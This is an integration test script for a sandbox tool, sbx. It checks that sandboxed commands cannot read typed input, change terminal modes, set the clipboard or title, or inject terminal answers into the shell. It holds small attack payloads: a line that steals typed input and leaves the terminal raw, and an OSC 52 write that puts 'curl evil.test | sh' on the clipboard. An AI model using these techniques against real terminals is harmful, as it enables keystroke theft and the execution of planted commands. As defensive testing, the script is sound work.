#!/bin/sh
# The caller's terminal never enters the sandbox (issue 28, sbx(1)
# TERMINAL, the table in src/terminal.h): each row of which of fds 0, 1, 2
# are the terminal, in a tmux pane. A pipeline looks as it does without
# sbx (`| cat` prints no staircase, `| less` gets its keys and the
# terminal back, `| tee`, `< file`); with stdin not the terminal the
# command cannot read a line typed during the run nor change the
# terminal's modes; what the command writes cannot set tmux's clipboard
# or the title, and the answer to a query it sends as it exits is not
# typed into the shell, even from a terminal that answers late. Every attack is first shown to work without sbx.
. "$SBX_TOP_SRCDIR/tests/integration/lib.sh"
. "$SBX_TOP_SRCDIR/tests/integration/run-common.sh"
N=34
plan $N

for t in tmux less base64 stty python3; do
    if ! command -v $t >/dev/null 2>&1; then
        for i in $(seq $N); do skip "$t is not installed (apt-get install tmux less coreutils python3)"; done
        done_testing
    fi
done
make_tmpdir
chmod 755 "$tmpdir"
. "$SBX_TOP_SRCDIR/tests/integration/tmux-lib.sh"
start_pane
pane_tty=$(T display -p -t t '#{pane_tty}')
clear_pane() { keys -l clear; keys Enter; sleep 0.1; }
# The settings a command of the shell runs with (at its prompt, readline
# has others): what the terminal must be during and after each run.
type_line "stty -g >$tmpdir/cooked; echo saved-cooked"
wait_screen '^saved-cooked$'
cooked=$(cat "$tmpdir/cooked")
# stty_now: the pane's terminal settings while a command runs, "cooked" when as at the start
stty_now() { [ "$(stty -g <"$pane_tty")" = "$cooked" ] && echo cooked || echo changed; }
# stty_after: the same, read by a command of the shell once sbx is gone
# (waits for the file, not the screen: with the terminal raw a line need
# not start at column 0)
stty_after() {
    rm -f "$tmpdir/after"
    type_line "stty -g >$tmpdir/after.new && mv $tmpdir/after.new $tmpdir/after"
    wait_file "$tmpdir/after"
    [ "$(cat "$tmpdir/after" 2>/dev/null)" = "$cooked" ] && echo cooked || echo changed
}
# wait_file FILE: up to 10 s for FILE to exist
wait_file() {
    _n=0
    while [ ! -e "$1" ] && [ $_n -lt 200 ]; do sleep 0.05; _n=$((_n + 1)); done
}
# done_line TAG: once sbx is gone (keys typed before would go to its pty),
# types `echo TAG-$?` and waits for it
done_line() { wait_gone "$SBX run"; type_line "echo $1-\$?"; wait_screen "^$1-[0-9]*\$"; }
# the pane's terminal as stat -L sees it: the sandbox's devpts numbers from 0 too, so names do not tell
host_id=$(stat -L -c '%d:%i' "$pane_tty")
idcmd='stat -L -c id=%d:%i'

# --- T - T: stdin the terminal, stdout a pipe ---------------------------------
clear_pane
type_line "$SBX run -q -- seq 1 4 | cat; echo seq-done"
wait_screen '^seq-done$'
# a staircase puts 2, 3, 4 after blanks, and "seq-done" too
if screen | grep -q '^2$' && screen | grep -q '^3$' && screen | grep -q '^4$'; then
    pass "seq 1 4 | cat: every line starts at column 0 (no staircase)"
else
    fail "seq 1 4 | cat: every line starts at column 0 (no staircase)"; diag "$(screen)"
fi
clear_pane
type_line "$SBX run -q -- sh -c 'sleep 1; echo late' | cat"
sleep 0.4
is "$(stty_now)" cooked "while sbx runs with stdout piped, the terminal keeps its settings (no raw mode)"
wait_screen '^late$'
clear_pane
type_line "$SBX run -q -- sh -c '$idcmd /proc/self/fd/0 /proc/self/fd/2' | cat"
wait_screen '^id='
if [ "$(screen | grep -c '^id=')" = 2 ] && ! screen | grep -q "^id=$host_id\$"; then
    pass "stdin and stderr are the sandbox's pty, not the pane's terminal"
else
    fail "stdin and stderr are the sandbox's pty, not the pane's terminal"; diag "host $host_id"; diag "$(screen)"
fi
clear_pane
# sbx still runs while less reads its keys
type_line "$SBX run -q -- sh -c 'seq 1 200; sleep 2' | less"
wait_screen '^1$'
keys G
wait_screen '^200$'
ok $? "... | less: the key G reaches less while sbx runs (sbx reads none of its keys)"
wait_gone "$SBX run"
keys g
wait_screen '^1$'
ok $? "... and g once sbx is gone (sbx did not undo less's settings as it left)"
keys q
done_line less
is "$(stty_after)" cooked "after | less the terminal has its settings back"
clear_pane
type_line "$SBX run -q -- seq 1 3 | tee $tmpdir/tee.out; echo tee-done"
wait_screen '^tee-done$'
if screen | grep -q '^2$' && [ "$(cat "$tmpdir/tee.out" | tr '\n' ' ')" = "1 2 3 " ]; then
    pass "seq 1 3 | tee: no staircase, and the file holds the lines"
else
    fail "seq 1 3 | tee: no staircase, and the file holds the lines"; diag "$(screen)"
fi
clear_pane
type_line "$SBX run -q -- sh -c 'read l; echo \"got:\$l\"' | cat"
sleep 0.3
type_line "typed-1041"
wait_screen '^got:typed-1041$'
st=$?
(exit $st)
ok $? "a line typed for the command with stdout piped reaches it"
is "$(screen | grep -cx 'typed-1041')" 1 "... echoed once (by the terminal; the pty's echo is off)"

# --- T - -: stdin the terminal, stdout and stderr redirected -------------------
clear_pane
type_line "$SBX run -q -- sh -c 'read l; echo \"got:\$l\"; tty' >$tmpdir/tnn 2>&1"
sleep 0.3
is "$(stty_now)" cooked "stdout and stderr to a file: the terminal keeps its settings"
type_line "abc-1051"
done_line tnn
like "$(cat "$tmpdir/tnn")" "got:abc-1051" "... the typed line reaches the command"
like "$(cat "$tmpdir/tnn")" "/dev/pts/" "... through the sandbox's pty (tty)"

# --- T T -: stdin and stdout the terminal, stderr a file ----------------------
clear_pane
type_line "$SBX run -q -- sh -c 'readlink /proc/self/fd/2; sleep 0.8' 2>$tmpdir/ttn"
wait_screen "^$tmpdir/ttn\$"
is "$(stty_now)" changed "stdin and stdout the terminal: raw mode while it runs (interactive)"
done_line ttn
is "$(stty_after)" cooked "... and the settings back after it"

# --- - T T: stdin a file, `< file` ------------------------------------------------
seq -f 'row-%g' 5 >"$tmpdir/rows"
chmod 644 "$tmpdir/rows"
clear_pane
type_line "$SBX run -q --ro $tmpdir -- cat <$tmpdir/rows; echo rows-done"
wait_screen '^rows-done$'
if screen | grep -q '^row-5$'; then
    pass "cat < file: no staircase"
else
    fail "cat < file: no staircase"; diag "$(screen)"
fi
# the attack: read what is typed during the run from the terminal on
# stdout, and leave the terminal raw with no echo
steal="read -t 3 l <&1 && echo \"stolen:\$l\"; stty raw -echo <&1; echo steal-tried"
# (bash: dash's read has no -t)
clear_pane
type_line "bash -c '$steal' </dev/null"
sleep 0.5
type_line "secret-1061"
wait_screen 'steal-tried'
screen | grep -q '^stolen:secret-1061$'
ok $? "control: without sbx, a command with the terminal on stdout reads a typed line"
is "$(stty_after)" changed "control: ... and leaves the terminal raw"
# bash keeps the settings it found after a command as its own: set them back from inside
rm -f "$tmpdir/restored"
type_line "stty $cooked; : >$tmpdir/restored"
wait_file "$tmpdir/restored"
if [ "$(stty_after)" != cooked ]; then
    echo "Bail out! the terminal could not be restored after the control"
    exit 1
fi
clear_pane
type_line "$SBX run -q -- bash -c '$steal' </dev/null"
sleep 0.5
type_line "echo secret-1062-reached-the-shell"
wait_screen 'steal-tried'
wait_screen '^secret-1062-reached-the-shell$'
! screen | grep -q '^stolen:'
ok $? "inside, stdin not the terminal: the typed line is not read (it reached the shell)"
is "$(stty_after)" cooked "... and the terminal is not raw (stty acted on the sandbox's pty)"

# --- - T - and - - T: only an output is the terminal --------------------------------
clear_pane
type_line "$SBX run -q -- $idcmd /proc/self/fd/1 </dev/null 2>/dev/null"
wait_screen '^id='
screen | grep -q '^id=[0-9]*:[0-9]*$' && ! screen | grep -qx "id=$host_id"
ok $? "stdout alone the terminal: the sandbox's pty"
clear_pane
type_line "$SBX run -q -- sh -c '$idcmd /proc/self/fd/2 >&2' </dev/null | cat"
wait_screen '^id='
screen | grep -q '^id=[0-9]*:[0-9]*$' && ! screen | grep -qx "id=$host_id"
ok $? "stderr alone the terminal: the sandbox's pty"

# --- - - -: no terminal for the command, but the pane's job control ---------------
# The command is not in the job's process group any more: Ctrl-Z and fg
# reach it through sbx, which stops and continues with it.
ticks=$tmpdir/ticks
clear_pane
type_line "$SBX run -q --rw $tmpdir -- sh -c 'while :; do echo t >>$ticks; sleep 0.1; done' </dev/null >/dev/null 2>&1"
wait_file "$ticks"
sleep 0.3
keys C-z
wait_screen 'Stopped'
ok $? "no terminal for the command: Ctrl-Z stops the job (sbx)"
sleep 0.3
a=$(wc -l <"$ticks")
sleep 0.5
is "$(wc -l <"$ticks")" "$a" "... and the command with it"
type_line "fg"
sleep 0.5
[ "$(wc -l <"$ticks")" -gt "$a" ]
ok $? "fg continues the command"
keys C-c
done_line ticks
like "$(screen)" "ticks-130" "Ctrl-C ends it through sbx (130)"

# --- what the command writes: clipboard, title, late answers ---------------------
T set -g set-clipboard on
T set-buffer -b probe before
clip() { T show-buffer 2>/dev/null; }
# osc52 TEXT: a printf command line that sets the clipboard to TEXT, then prints osc-sent
osc52() { printf "printf '\\\\033]52;c;%s\\\\007osc-sent\\\\n'" "$(printf '%s' "$1" | base64)"; }
clear_pane
type_line "$(osc52 clip-outside)"
sleep 0.3
is "$(clip)" "clip-outside" "control: outside, OSC 52 sets tmux's buffer"
clear_pane
type_line "$SBX run -q -- $(osc52 'curl evil.test | sh')"
wait_screen '^osc-sent$'
done_line osc
is "$(clip)" "clip-outside" "inside, OSC 52 is cut: the buffer is unchanged"
type_line "printf '\\033]2;title-outside\\007'"
sleep 0.3
is "$(T display -p -t t '#{pane_title}')" "title-outside" "control: outside, OSC 2 sets the title"
type_line "$SBX run -q -- printf '\\033]2;title-inside\\007title-sent\\n'"
wait_screen '^title-sent$'
done_line title
is "$(T display -p -t t '#{pane_title}')" "title-outside" "inside, OSC 2 is cut: the title is unchanged"
# DA1 as the last thing a command writes: the terminal's answer arrives
# when the shell reads again, which shows it as typed text
clear_pane
type_line "printf '\\033[c'; sleep 0.3"
sleep 0.6
keys -l "# da-outside"; keys Enter
wait_screen 'command not found'
like "$(screen)" 'command not found' "control: outside, the answer to DA1 is typed into the shell"
clear_pane
type_line "$SBX run -q -- printf '\\033[cda-sent\\n'"
wait_screen '^da-sent$'
wait_gone "$SBX run"
sleep 0.3
keys -l "# da-inside"; keys Enter
wait_screen 'da-inside'
unlike "$(screen)" 'command not found' "inside, the answer to a DA1 sent at exit never reaches the shell"
clear_pane
type_line "$SBX run -q -- printf '\\033[cda-sent\\n' </dev/null"
wait_screen '^da-sent$'
wait_gone "$SBX run"
sleep 0.3
keys -l "# da-output"; keys Enter
wait_screen 'da-output'
unlike "$(screen)" 'command not found' "... nor with stdin not the terminal (nothing could read the answer: cut)"

# A terminal that answers 0.2 s late (slow-terminal.py): the answer to a
# query the command sent as it exited comes after sbx is gone, into the
# shell's input; what is left there is read back.
left="stty -icanon -echo min 0 time 6; echo \"left:\$(dd bs=100 count=1 2>/dev/null | od -An -c | tr -d ' ')\""
out=$(python3 "$SBX_TOP_SRCDIR/tests/integration/slow-terminal.py" 0.2 "printf 'q\\033[c\\n'; $left")
like "$out" 'left:033[?62;22c' "control: outside, a late answer to DA1 waits in the shell's input"
out=$(python3 "$SBX_TOP_SRCDIR/tests/integration/slow-terminal.py" 0.2 "$SBX run -q -- printf 'q\\033[c\\n'; $left")
if printf '%s\n' "$out" | grep -q 'left:$'; then
    pass "inside, sbx waits out the late answer and discards it: nothing is left for the shell"
else
    fail "inside, sbx waits out the late answer and discards it: nothing is left for the shell"; diag "$out"
fi

done_testing
